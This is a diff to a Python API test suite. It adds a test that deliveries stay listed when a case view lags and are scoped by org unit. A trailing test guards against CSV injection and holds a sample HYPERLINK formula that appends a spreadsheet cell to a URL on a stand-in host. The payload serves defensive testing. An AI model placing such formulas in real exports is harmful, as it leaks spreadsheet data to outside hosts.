@@ -286,6 +286,20 @@ class TestDeliveryList:
         bad = api.client.get(f"{base}/deliveries", params={"month": "2026-13"}, headers=market["contractor"])
         assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "month"
 
+    def test_a_delivery_whose_case_the_view_has_not_reached_is_listed_all_the_same(self, api, desk, market):
+        """The list must agree with the contract's ledger, which the contract itself keeps."""
+        case = referred_case(desk, market)
+        last = deliver(api, market, case["id"], "V-1")
+        url, params = f"/v1/contracts/{market['contract']['id']}/deliveries", {"min_position": last.headers["x-position"]}
+        assert api.client.get(url, params=params, headers=market["supervisor"]).status_code == 200
+        with api.client.app.state.backend.views.write() as tx:
+            tx.execute("DELETE FROM view_cases WHERE id = ?", (case["id"],))  # as if the view were behind
+        for reader in (market["supervisor"], api.token("auditor"), api.token("admin")):
+            listed = api.client.get(url, headers=reader).json()["items"]
+            assert [d["reference"] for d in listed] == ["V-1"]
+        api.app.add_org_units(ADMIN, [OrgUnit("350502001", "海滨街道", "township")])
+        assert api.client.get(url, headers=api.token("case_worker", "350502001")).json()["items"] == []
+
     def test_a_reference_that_reads_as_a_formula_is_exported_as_text(self, api, desk, market):
         """A reviewer opening the export must not run what a contractor wrote (CSV injection)."""
         reference = '=HYPERLINK("http://x.example/?"&C2,"open")'
